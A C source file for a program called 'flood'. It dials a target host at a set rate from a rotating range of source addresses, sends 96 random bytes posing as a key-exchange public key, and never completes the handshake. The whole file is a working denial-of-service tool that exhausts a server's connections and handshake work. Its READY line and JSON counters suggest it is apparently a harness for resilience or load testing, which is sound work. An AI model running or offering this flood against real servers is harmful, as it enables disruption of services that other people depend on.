/* Connections that offer the handshake of an encryption, and never end it.
 *
 *   flood HOST PORT RATE SOURCE ADDRESSES
 *
 * Dials RATE connections a second from ADDRESSES addresses in turn, the first of which is SOURCE. Each sends 96 bytes that
 * may be a public key, and reads until the other side closes. A dial that finds 15,000 connections open is left out.
 * SIGTERM ends it: it prints a line of JSON with its counts. "answered" are connections with a public key of the other
 * side. Build: cc -O2 -o flood flood.c */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { KEY = 96, EVENTS = 512, MOST_OPEN = 15000, MOST_FILES = 65536 };
enum { UNSENT, SENT, ANSWERED };

static volatile sig_atomic_t ended;
static int poller, open_now;
static uint8_t states[MOST_FILES];
static struct { uint64_t dialled, left_out, failed, sent, answered, closed; } counts;

static void end(int signal) { (void)signal, ended = 1; }

static void die(const char *what) {
  perror(what);
  exit(1);
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec + time.tv_nsec / 1e9;
}

static void dial(const struct sockaddr_in *target, uint32_t from) {
  if (open_now >= MOST_OPEN) {
    counts.left_out++;
    return;
  }
  int one = 1, fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (fd < 0) die("socket");
  struct sockaddr_in source = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(from)};
  setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
  if (bind(fd, (void *)&source, sizeof source)) die("bind");
  counts.dialled++;
  if (fd >= MOST_FILES || (connect(fd, (void *)target, sizeof *target) && errno != EINPROGRESS)) {
    counts.failed++;
    close(fd);
    return;
  }
  states[fd] = UNSENT;
  open_now++;
  struct epoll_event wanted = {.events = EPOLLOUT | EPOLLIN, .data.fd = fd};
  epoll_ctl(poller, EPOLL_CTL_ADD, fd, &wanted);
}

static void drop(int fd) {
  open_now--;
  if (states[fd] == UNSENT) counts.failed++;
  else counts.closed++;
  close(fd);
}

static void send_key(int fd) {
  uint8_t key[KEY];
  for (int i = 0; i < KEY; i++) key[i] = random();
  /* Below the prime, and above one. */
  key[0] = 0x10;
  if (send(fd, key, KEY, MSG_NOSIGNAL) != KEY) return drop(fd);
  states[fd] = SENT;
  counts.sent++;
  struct epoll_event wanted = {.events = EPOLLIN, .data.fd = fd};
  epoll_ctl(poller, EPOLL_CTL_MOD, fd, &wanted);
}

static void readable(int fd) {
  uint8_t bytes[2048];
  ssize_t got = recv(fd, bytes, sizeof bytes, 0);
  if (got < 0 && errno == EAGAIN) return;
  if (got <= 0) return drop(fd);
  if (states[fd] == SENT && got >= KEY) states[fd] = ANSWERED, counts.answered++;
}

static void follow(const struct epoll_event *event) {
  int fd = event->data.fd;
  if (states[fd] == UNSENT && event->events & (EPOLLERR | EPOLLHUP)) return drop(fd);
  if (states[fd] == UNSENT && event->events & EPOLLOUT) return send_key(fd);
  if (event->events & (EPOLLIN | EPOLLERR | EPOLLHUP)) readable(fd);
}

int main(int argc, char **argv) {
  if (argc != 6) {
    fprintf(stderr, "usage: flood HOST PORT RATE SOURCE ADDRESSES\n");
    return 2;
  }
  struct sockaddr_in target = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
  struct in_addr source;
  if (inet_pton(AF_INET, argv[1], &target.sin_addr) != 1 || inet_pton(AF_INET, argv[4], &source) != 1) die("address");
  double rate = atof(argv[3]);
  uint32_t addresses = atoi(argv[5]), first = ntohl(source.s_addr);
  struct rlimit files;
  getrlimit(RLIMIT_NOFILE, &files);
  files.rlim_cur = files.rlim_max;
  setrlimit(RLIMIT_NOFILE, &files);
  signal(SIGTERM, end);
  if ((poller = epoll_create1(0)) < 0) die("epoll");
  printf("READY\n");
  fflush(stdout);
  double begun = now();
  uint64_t tried = 0;
  while (!ended) {
    struct epoll_event events[EVENTS];
    int ready = epoll_wait(poller, events, EVENTS, 1);
    for (int i = 0; i < ready; i++) follow(&events[i]);
    for (int most = 200; tried < (now() - begun) * rate && most; tried++, most--) dial(&target, first + tried % addresses);
  }
  printf("{\"dialled\":%lu,\"leftOut\":%lu,\"failed\":%lu,\"sent\":%lu,\"answered\":%lu,\"closed\":%lu,\"seconds\":%.3f}\n",
         counts.dialled, counts.left_out, counts.failed, counts.sent, counts.answered, counts.closed, now() - begun);
  return 0;
}
